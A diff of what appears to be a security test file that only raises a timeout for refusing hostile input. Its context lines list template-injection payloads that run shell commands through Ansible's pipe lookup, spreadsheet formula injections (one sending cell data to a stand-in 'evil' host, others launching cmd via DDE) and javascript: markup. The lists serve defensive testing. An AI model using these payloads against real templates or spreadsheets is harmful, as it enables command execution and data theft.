@@ -36,7 +36,7 @@ PAYLOADS = ["{{ lookup('pipe', 'touch MARK') }}", "{% set x = lookup('pipe', 'to
             "a'] + [lookup('pipe','touch MARK')] + ['", "{{ hostvars }}", "x\n  - debug: {msg: \"{{ lookup('pipe', "
             "'touch MARK') }}\"}", "!unsafe {{ lookup('pipe','touch MARK') }}", "{{ query('pipe', 'touch MARK') }}",
             "{# #}{{ lookup(\"pipe\", \"touch MARK\") }}"]
-QUICK = 10.0  # seconds: a refusal of a hostile input, on a loaded shared machine
+QUICK = 20.0  # seconds: a refusal of a hostile input, start-up included, on a loaded shared machine
 FORMULAS = ["=HYPERLINK(\"http://evil/\"&A1,\"open\")", "=WEBSERVICE(\"http://evil/\")", "=cmd|' /C calc'!A0",
             "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1"]
 MARKUP = ['<table href="javascript:alert(1)"><tr><td href="javascript:alert(2)">y</td></tr></table>',
